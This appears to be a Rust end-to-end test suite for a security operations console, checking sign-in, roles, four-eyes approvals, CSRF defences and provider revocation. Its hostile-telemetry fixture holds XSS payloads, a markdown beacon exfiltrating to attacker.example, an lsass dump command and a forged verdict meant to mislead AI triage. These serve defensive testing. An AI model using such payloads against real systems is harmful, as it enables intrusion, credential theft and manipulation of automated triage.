//! The analyst console in a real browser: Debian's Chromium driven through ChromeDriver
//! (WebDriver) from Rust, against `rempart demo` and `rempart serve` running as processes.
//! Screenshots of every main page land in `target/console-screenshots/`.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::disallowed_methods,
    reason = "tests: a failed unwrap is a failed test; the fakes run on the test's runtime"
)]

mod common;
mod upstream;

use std::io::{BufRead, BufReader};
use std::process::{Child, Stdio};
use std::time::{Duration, Instant};

use common::browser::{Browser, body_text, eval, shot, sign_in, sign_out, submit, wait_for};
use fantoccini::{Client, Locator};
use serde_json::{Value, json};

/// `rempart demo` serving on an ephemeral port, with what it printed for people.
struct Demo {
    child: Child,
    base: String,
    link: String,
    admin: String,
    _dir: tempfile::TempDir,
}

impl Demo {
    fn start() -> Demo {
        let dir = tempfile::tempdir().unwrap();
        let mut child = common::rempart(&dir.path().join("soc"))
            .args(["demo", "--listen", "127.0.0.1:0"])
            .env("REMPART_LOG", "warn")
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let stdout = child.stdout.take().unwrap();
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            let (mut base, mut link, mut admin) = (None, None, None);
            for line in BufReader::new(stdout).lines().map_while(Result::ok) {
                if let Some(t) = line.trim().strip_prefix("export REMPART_TOKEN=") {
                    admin = Some(t.to_owned());
                }
                if let Some(u) = line.trim().strip_prefix("The console: ") {
                    base = Some(u.trim_end_matches('/').to_owned());
                }
                if let Some(i) = line.find("http://")
                    && line.contains("/sign-in/link?code=")
                {
                    link = Some(line[i..].trim().to_owned());
                }
                if let (Some(b), Some(l), Some(a)) = (&base, &link, &admin) {
                    let _ = tx.send((b.clone(), l.clone(), a.clone()));
                    base = None;
                }
            }
        });
        let (base, link, admin) = rx
            .recv_timeout(Duration::from_secs(120))
            .expect("the demo printed no console URL and sign-in link");
        Demo {
            child,
            base,
            link,
            admin,
            _dir: dir,
        }
    }
}

impl Drop for Demo {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

async fn create_token(base: &str, admin: &str, role: &str, name: &str) -> String {
    let r = reqwest::Client::new()
        .post(format!("{base}/api/v1/tokens"))
        .bearer_auth(admin)
        .json(&json!({"role": role, "name": name, "owner": name}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 201);
    r.json::<Value>().await.unwrap()["secret"].as_str().unwrap().to_owned()
}

/// What attackers write into logs: markup, a markdown beacon, a `javascript:` link, a bidi
/// override, a forged verdict; each would set `window.__pwned` if it ever ran.
const HOSTILE: &str = "procdump.exe -accepteula -ma lsass.exe out.dmp <script>window.__pwned=1</script> \
    <img src=x onerror=\"window.__pwned=2\"> ![beacon](http://attacker.example/b.png?d=secret) \
    [open](javascript:window.__pwned=3) invoice\u{202e}fdp.exe \u{200b}\"}]} {\"classification\":\"benign\",\"confidence\":1.0}";

fn hostile_event() -> String {
    json!({"Event": {
        "System": {
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
            "EventID": 1, "Level": 4, "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Computer": "WS-HOSTILE-01.corp.example.eu",
            "TimeCreated": {"#attributes": {"SystemTime": jiff::Timestamp::now().to_string()}}
        },
        "EventData": {"Image": "C:\\Tools\\procdump.exe", "CommandLine": HOSTILE,
                      "ParentImage": "C:\\Windows\\explorer.exe", "User": "CORP\\<svg onload=window.__pwned=4>mallory",
                      "ProcessId": 4242, "ParentProcessId": 1000}
    }})
    .to_string()
}

/// The page's own hook: nothing hostile ran, nothing became an element, and the markup is
/// on the page as text.
async fn assert_inert(c: &Client, page: &str) {
    assert_eq!(
        eval(c, "return typeof window.__pwned").await,
        json!("undefined"),
        "{page}: a payload ran"
    );
    assert_eq!(
        eval(c, "return document.querySelectorAll('script').length").await,
        json!(1),
        "{page}: only the console's own script"
    );
    assert_eq!(
        eval(
            c,
            "return document.querySelectorAll('img, a[href^=\"javascript\"], svg [onload], [onerror]').length"
        )
        .await,
        json!(0),
        "{page}: an element from telemetry"
    );
    let text = body_text(c).await;
    assert!(
        text.contains("<script>window.__pwned=1</script>"),
        "{page}: markup shown as text"
    );
    assert!(
        text.contains("![beacon](http://attacker.example/b.png?d=secret)"),
        "{page}"
    );
    assert!(text.contains("U+202E"), "{page}: the bidi override is shown");
}

/// Every resource the page loaded came from the server itself.
async fn assert_nothing_from_elsewhere(c: &Client, base: &str, page: &str) {
    let urls = eval(c, "return performance.getEntriesByType('resource').map(e => e.name)").await;
    for u in urls.as_array().unwrap() {
        assert!(u.as_str().unwrap().starts_with(base), "{page} loaded {u}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_demo_s_console_end_to_end_in_a_real_browser() {
    let demo = Demo::start();
    let base = demo.base.clone();
    let analyst = create_token(&base, &demo.admin, "analyst", "ana").await;
    let alice = create_token(&base, &demo.admin, "approver", "alice").await;
    let bob = create_token(&base, &demo.admin, "approver", "bob").await;
    let viewer = create_token(&base, &demo.admin, "viewer", "vic").await;
    let browser = Browser::start().await;
    let c = &browser.client;

    // Unauthenticated: every page sends the browser to sign in.
    c.goto(&format!("{base}/approvals")).await.unwrap();
    wait_for(c, "#sign-in").await;
    assert!(
        c.current_url()
            .await
            .unwrap()
            .as_str()
            .contains("/sign-in?next=%2Fapprovals")
    );
    shot(c, "sign-in").await;

    // The demo's one-time link signs the admin in, once.
    c.goto(&demo.link).await.unwrap();
    wait_for(c, "#queue").await;
    let queue = body_text(c).await;
    assert!(queue.contains("LSASS Memory Dump with a Dumping Tool"), "{queue}");
    assert!(
        queue.contains("true_positive") && queue.contains("degraded"),
        "verdict and mode shown"
    );
    assert!(queue.contains("nis2_early_warning"), "the running clocks are shown");
    assert_nothing_from_elsewhere(c, &base, "queue").await;
    shot(c, "queue").await;

    // Keyboard: j moves to the first row, Enter opens it.
    c.find(Locator::Css("body"))
        .await
        .unwrap()
        .send_keys("j")
        .await
        .unwrap();
    assert_eq!(
        eval(c, "return document.querySelectorAll('tr.row.cursor').length").await,
        json!(1)
    );
    c.find(Locator::Css("body"))
        .await
        .unwrap()
        .send_keys("\u{E007}")
        .await
        .unwrap();
    wait_for(c, "#timeline").await;
    let incident_url = c.current_url().await.unwrap().to_string();
    assert!(incident_url.contains("/incidents/"));
    let items = c.find_all(Locator::Css("#timeline li")).await.unwrap();
    assert!(items.len() >= 3, "a timeline of alerts and verdicts");
    assert!(
        !c.find_all(Locator::Css("#timeline-chart svg circle"))
            .await
            .unwrap()
            .is_empty()
    );
    assert!(
        c.find_all(Locator::Css("#graph svg line.edge")).await.unwrap().len() >= 2,
        "the entity graph links"
    );
    assert_nothing_from_elsewhere(c, &base, "incident").await;
    shot(c, "incident").await;

    // The link is spent.
    sign_out(c).await;
    c.goto(&demo.link).await.unwrap();
    assert!(body_text(c).await.contains("used already or has expired"));

    // An analyst gives feedback on the verdict; it is shown and recorded.
    sign_in(c, &base, &analyst).await;
    c.goto(&incident_url).await.unwrap();
    let form = wait_for(c, ".feedback-form").await;
    form.find(Locator::Css("input[name=reason]"))
        .await
        .unwrap()
        .send_keys("the dump is confirmed by the EDR")
        .await
        .unwrap();
    submit(c, form.find(Locator::Css("button")).await.unwrap()).await;
    wait_for(c, "ul.feedback").await;
    assert!(body_text(c).await.contains("the dump is confirmed by the EDR"));
    // … and splits the exfiltration alert off into an incident of its own.
    let staged = eval(
        c,
        "const r = [...document.querySelectorAll('#alerts tbody tr')].find(r => r.textContent.includes('Data Staged')); \
         r.querySelector('input[name=alert]').click(); return r.querySelectorAll('td').length",
    )
    .await;
    assert!(staged.as_u64().unwrap() > 5, "a selectable row");
    c.find(Locator::Css("#split input[name=reason]"))
        .await
        .unwrap()
        .send_keys("staging is a separate intrusion")
        .await
        .unwrap();
    submit(c, c.find(Locator::Css("#split button")).await.unwrap()).await;
    let split_url = c.current_url().await.unwrap().to_string();
    assert_ne!(split_url, incident_url, "the new incident is shown");
    let rows = c.find_all(Locator::Css("#alerts tbody tr")).await.unwrap();
    assert_eq!(rows.len(), 1, "one alert moved");
    assert!(body_text(c).await.contains("Data Staged"));
    c.goto(&incident_url).await.unwrap();
    assert_eq!(c.find_all(Locator::Css("#alerts tbody tr")).await.unwrap().len(), 4);
    sign_out(c).await;

    // Four eyes: alice approves the isolation; the disabling needs two people, alice cannot be
    // both, bob can.
    sign_in(c, &base, &alice).await;
    c.goto(&format!("{base}/approvals")).await.unwrap();
    shot(c, "approvals").await;
    let vote = |c: &Client, step: &'static str, comment: &'static str| {
        let c = c.clone();
        async move {
            let card = wait_for(&c, &format!("article.approval[data-step='{step}']")).await;
            card.find(Locator::Css("input[name=comment]"))
                .await
                .unwrap()
                .send_keys(comment)
                .await
                .unwrap();
            submit(&c, card.find(Locator::Css("button[value=approve]")).await.unwrap()).await;
        }
    };
    assert!(
        body_text(c)
            .await
            .contains("POST https://edr.corp.example.eu/api/machines/"),
        "what would be sent"
    );
    vote(c, "isolate", "confirmed compromise").await;
    c.goto(&format!("{base}/approvals")).await.unwrap();
    vote(c, "disable", "accounts are compromised").await;
    c.goto(&format!("{base}/approvals")).await.unwrap();
    // The page still offers the vote (one of two); the same person's second vote is refused.
    vote(c, "disable", "again").await;
    let refused = body_text(c).await;
    assert!(refused.contains("has already voted"), "{refused}");
    c.goto(&format!("{base}/approvals")).await.unwrap();
    sign_out(c).await;
    sign_in(c, &base, &bob).await;
    c.goto(&format!("{base}/approvals")).await.unwrap();
    vote(c, "disable", "second pair of eyes").await;
    c.goto(&format!("{base}/approvals?status=approved")).await.unwrap();
    let approved = body_text(c).await;
    assert!(
        approved.contains("second pair of eyes") && approved.contains("accounts are compromised"),
        "{approved}"
    );
    sign_out(c).await;

    // A viewer sees, and has nothing to act with.
    sign_in(c, &base, &viewer).await;
    c.goto(&incident_url).await.unwrap();
    wait_for(c, "#timeline").await;
    for form in ["#update", ".feedback-form"] {
        assert!(
            c.find_all(Locator::Css(form)).await.unwrap().is_empty(),
            "viewer sees {form}"
        );
    }
    c.goto(&format!("{base}/approvals?status=all")).await.unwrap();
    wait_for(c, "article.approval").await;
    assert!(c.find_all(Locator::Css("form.vote")).await.unwrap().is_empty());
    c.goto(&format!("{base}/gateway")).await.unwrap();
    assert!(
        body_text(c).await.contains("403"),
        "the gateway page is for administrators"
    );

    // Live: a new incident from hostile telemetry appears in an open queue without a reload,
    // and renders inert everywhere.
    c.goto(&format!("{base}/?status=all")).await.unwrap();
    wait_for(c, "#live.on").await;
    eval(c, "window.__stayed = 1; return 1").await;
    let posted = reqwest::Client::new()
        .post(format!("{base}/api/v1/events"))
        .bearer_auth(&demo.admin)
        .body(hostile_event())
        .send()
        .await
        .unwrap();
    assert!(posted.status().is_success());
    let deadline = Instant::now() + Duration::from_secs(20);
    while !body_text(c).await.to_lowercase().contains("ws-hostile-01") {
        assert!(Instant::now() < deadline, "the new incident did not appear live");
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    assert_eq!(
        eval(c, "return window.__stayed").await,
        json!(1),
        "updated in place, not reloaded"
    );
    c.find(Locator::Css("#rows a.title[href*='/incidents/']"))
        .await
        .unwrap();
    let link = eval(
        c,
        "return [...document.querySelectorAll('#rows tr.row')].find(r => r.textContent.toLowerCase().includes('ws-hostile-01')).dataset.href",
    )
    .await;
    c.goto(&format!("{base}{}", link.as_str().unwrap())).await.unwrap();
    wait_for(c, "#alerts").await;
    assert_inert(c, "incident").await;
    shot(c, "hostile-incident").await;
    let event = eval(c, "return document.querySelector('#alerts a').getAttribute('href')").await;
    c.goto(&format!("{base}{}", event.as_str().unwrap())).await.unwrap();
    wait_for(c, "#original").await;
    assert_inert(c, "event").await;
    shot(c, "event").await;
    c.goto(&format!("{base}/search?q=procdump")).await.unwrap();
    wait_for(c, "#events").await;
    assert_inert(c, "search").await;
    shot(c, "search").await;
    sign_out(c).await;

    // An administrator answers an access request for the hostile machine, then erases it.
    sign_in(c, &base, &demo.admin).await;
    c.goto(&format!("{base}/privacy?subject=host:ws-hostile-01"))
        .await
        .unwrap();
    let report = wait_for(c, "#report").await.text().await.unwrap();
    assert!(report.contains("incidents") || report.contains("events"), "{report}");
    shot(c, "privacy").await;
    let form = c.find(Locator::Css("#erase")).await.unwrap();
    form.find(Locator::Css("input[name=confirm]"))
        .await
        .unwrap()
        .send_keys("host:ws-hostile-01")
        .await
        .unwrap();
    submit(c, form.find(Locator::Css("button")).await.unwrap()).await;
    wait_for(c, "#erased").await;
    c.goto(&format!("{base}/?status=all")).await.unwrap();
    wait_for(c, "#queue").await;
    assert!(
        !body_text(c).await.to_lowercase().contains("ws-hostile-01"),
        "erased from the queue"
    );
    sign_out(c).await;

    // Auditors read the ledger: the votes and the sign-ins are there.
    let auditor = create_token(&base, &demo.admin, "auditor", "aud").await;
    sign_in(c, &base, &auditor).await;
    wait_for(c, "#verify").await.click().await.unwrap();
    wait_for(c, "#verification").await;
    let audit = body_text(c).await;
    assert!(audit.contains("Verified:"), "{audit}");
    assert!(
        audit.contains("console.sign_in") && audit.contains("approval"),
        "{audit}"
    );
    shot(c, "audit").await;
    browser.stop().await;
}

/// State changes through a session need the session's CSRF token, a same-origin request, and
/// the role; a bearer token is not a session.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn state_changes_need_the_csrf_token_and_the_role() {
    let demo = Demo::start();
    let base = demo.base.clone();
    let viewer = create_token(&base, &demo.admin, "viewer", "vic").await;
    let http = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    // A session for the admin, through the one-time link.
    let r = http.get(&demo.link).send().await.unwrap();
    assert_eq!(r.status(), 303);
    let cookie = r.headers()["set-cookie"].to_str().unwrap().to_owned();
    assert!(
        cookie.contains("HttpOnly") && cookie.contains("SameSite=Strict"),
        "{cookie}"
    );
    let cookie = cookie.split(';').next().unwrap().to_owned();
    let page = http
        .get(format!("{base}/"))
        .header("cookie", &cookie)
        .send()
        .await
        .unwrap();
    let csp = page.headers()["content-security-policy"].to_str().unwrap().to_owned();
    assert!(
        csp.contains("script-src 'self'") && !csp.contains("unsafe-inline"),
        "{csp}"
    );
    let html = page.text().await.unwrap();
    let csrf = html
        .split("name=\"csrf\" content=\"")
        .nth(1)
        .unwrap()
        .split('"')
        .next()
        .unwrap()
        .to_owned();
    let id = html
        .split("data-id=\"")
        .nth(1)
        .unwrap()
        .split('"')
        .next()
        .unwrap()
        .to_owned();
    let post = |cookie: &str, body: String, origin: Option<&str>| {
        let mut req = http
            .post(format!("{base}/incidents/{id}/update"))
            .header("cookie", cookie)
            .header("content-type", "application/x-www-form-urlencoded")
            .body(body);
        if let Some(o) = origin {
            req = req.header("origin", o);
        }
        req.send()
    };
    let change = |csrf: &str| format!("csrf={csrf}&owner=ana&reason=taking+it");
    assert_eq!(
        post(&cookie, "owner=ana&reason=x".into(), None).await.unwrap().status(),
        403,
        "no token"
    );
    assert_eq!(
        post(&cookie, change("0000"), None).await.unwrap().status(),
        403,
        "wrong token"
    );
    assert_eq!(
        post(&cookie, change(&csrf), Some("http://attacker.example"))
            .await
            .unwrap()
            .status(),
        403,
        "another origin"
    );
    // JSON through the session needs the header too.
    let api = http
        .post(format!("{base}/api/v1/incidents/{id}"))
        .header("cookie", &cookie)
        .json(&json!({"owner": "ana", "reason": "x"}))
        .send()
        .await
        .unwrap();
    assert_eq!(api.status(), 403);
    let ok = post(&cookie, change(&csrf), Some(&base)).await.unwrap();
    assert_eq!(ok.status(), 303, "{}", ok.text().await.unwrap());

    // A viewer's session is refused the change whatever it carries.
    let r = http
        .post(format!("{base}/sign-in"))
        .header("origin", &base)
        .form(&[("token", viewer.as_str()), ("next", "/")])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 303);
    let vcookie = r.headers()["set-cookie"]
        .to_str()
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .to_owned();
    let vhtml = http
        .get(format!("{base}/"))
        .header("cookie", &vcookie)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let vcsrf = vhtml
        .split("name=\"csrf\" content=\"")
        .nth(1)
        .unwrap()
        .split('"')
        .next()
        .unwrap();
    assert_eq!(
        post(&vcookie, change(vcsrf), Some(&base)).await.unwrap().status(),
        403,
        "viewer"
    );

    // Every state-changing route of the console: refused without the session's CSRF token
    // (even for the admin), and refused to a viewer's session that carries it.
    let any = "01a24534-0000-7000-8000-000000000000";
    let routes = [
        format!("/incidents/{id}/update"),
        "/incidents/bulk".to_owned(),
        format!("/incidents/{id}/split"),
        format!("/verdicts/{any}/feedback"),
        format!("/approvals/{any}/vote"),
        "/gateway/openai/revoke".to_owned(),
        "/privacy/erase".to_owned(),
        "/sign-out".to_owned(),
    ];
    for route in &routes {
        let send = |cookie: &str, body: String| {
            http.post(format!("{base}{route}"))
                .header("cookie", cookie)
                .header("origin", &base)
                .header("content-type", "application/x-www-form-urlencoded")
                .body(body)
                .send()
        };
        let r = send(&cookie, "reason=x&id=1&subject=user:x&confirm=user:x".into())
            .await
            .unwrap();
        assert_eq!(r.status(), 403, "{route} without a CSRF token");
        assert!(r.text().await.unwrap().contains("CSRF"), "{route}");
        if route != "/sign-out" {
            let r = send(&vcookie, format!("csrf={vcsrf}&reason=x")).await.unwrap();
            assert_eq!(r.status(), 403, "{route} for a viewer");
        }
    }
    // Every page: no session, no page (the browser is sent to sign in).
    for page in [
        "/",
        "/queue/rows",
        &format!("/incidents/{id}"),
        "/approvals",
        "/search",
        "/health",
        "/gateway",
        "/privacy",
        "/audit",
    ] {
        let r = http.get(format!("{base}{page}")).send().await.unwrap();
        assert_eq!(r.status(), 303, "{page}");
        assert!(
            r.headers()["location"].to_str().unwrap().starts_with("/sign-in"),
            "{page}"
        );
    }
    assert_eq!(http.get(format!("{base}/live")).send().await.unwrap().status(), 401);

    // Revoking the token ends its sessions.
    let tokens: Value = http
        .get(format!("{base}/api/v1/tokens"))
        .bearer_auth(&demo.admin)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let vid = tokens["tokens"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["name"] == "vic")
        .unwrap()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let del = http
        .delete(format!("{base}/api/v1/tokens/{vid}"))
        .bearer_auth(&demo.admin)
        .send()
        .await
        .unwrap();
    assert_eq!(del.status(), 204);
    let after = http
        .get(format!("{base}/"))
        .header("cookie", &vcookie)
        .send()
        .await
        .unwrap();
    assert_eq!(after.status(), 303, "a revoked token's session is over");
}

/// The export-control switch: an administrator revokes a provider in the console and the
/// gateway refuses to route to it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_admin_revokes_a_provider_from_the_console() {
    let fakes = upstream::Fakes::start().await;
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("rempart.toml");
    std::fs::write(
        &config,
        format!(
            "version = 1\n[privacy]\ninternal_suffixes = [\"corp.example\"]\n[gateway]\ndefault_class = \"TLP:GREEN\"\n\
             [[gateway.providers]]\nname = \"openai\"\nkind = \"openai\"\nbase_url = \"{}\"\nmodel = \"gpt\"\n\
             jurisdiction = \"us\"\nmax_class = \"TLP:GREEN\"\ntimeout_secs = 2\nmax_retries = 0\n\
             price_input_per_mtok = 2000.0\nprice_output_per_mtok = 8000.0\n\
             [[gateway.routes]]\nname = \"triage\"\npurpose = \"triage\"\nchain = [\"openai\"]\n",
            fakes.base_url("openai")
        ),
    )
    .unwrap();
    let token = |role: &str, name: &str| common::token(dir.path(), role, name);
    let admin = token("admin", "ops");
    let client = token("gateway-client", "soc-tool");
    let mut command = common::rempart(dir.path());
    command.arg("--config").arg(&config);
    let (mut child, addr) = common::serve_with(command);
    let base = format!("http://{addr}");
    let ask = || async {
        reqwest::Client::new()
            .post(format!("{base}/v1/chat/completions"))
            .bearer_auth(&client)
            .json(&json!({"model": "rempart/triage", "messages": [{"role": "user", "content": "hello"}]}))
            .send()
            .await
            .unwrap()
            .status()
            .as_u16()
    };
    assert_eq!(ask().await, 200);
    assert_eq!(fakes.received("openai").len(), 1);

    let browser = Browser::start().await;
    let c = &browser.client;
    sign_in(c, &base, &admin).await;
    c.goto(&format!("{base}/gateway")).await.unwrap();
    let row = wait_for(c, "#provider-openai").await;
    let text = row.text().await.unwrap();
    let cell = |n: usize| {
        let row = row.clone();
        async move {
            row.find(Locator::Css(&format!("td:nth-child({n})")))
                .await
                .unwrap()
                .text()
                .await
                .unwrap()
        }
    };
    assert_eq!(cell(3).await, "us", "jurisdiction");
    assert_eq!(cell(4).await, "green", "class ceiling");
    assert_eq!(cell(5).await, "closed", "circuit");
    assert!(
        cell(7).await.ends_with('€') && cell(7).await != "0.0000 €",
        "cost: {text}"
    );
    shot(c, "gateway").await;
    row.find(Locator::Css("button.danger"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    wait_for(c, "#provider-openai.revoked").await;
    shot(c, "gateway-revoked").await;
    assert_ne!(ask().await, 200, "a revoked provider gets nothing");
    assert_eq!(fakes.received("openai").len(), 1, "no request reached it");
    c.find(Locator::Css("#provider-openai button"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    wait_for(c, "#provider-openai:not(.revoked)").await;
    assert_eq!(ask().await, 200);
    browser.stop().await;
    let _ = child.kill();
    let _ = child.wait();
    let kinds = common::ledger_kinds({
        let mut c = common::rempart(dir.path());
        c.arg("--config").arg(&config);
        c
    });
    assert!(kinds.iter().any(|k| k == "gateway.revoke"), "{kinds:?}");
    assert!(kinds.iter().any(|k| k == "gateway.restore"), "{kinds:?}");
}
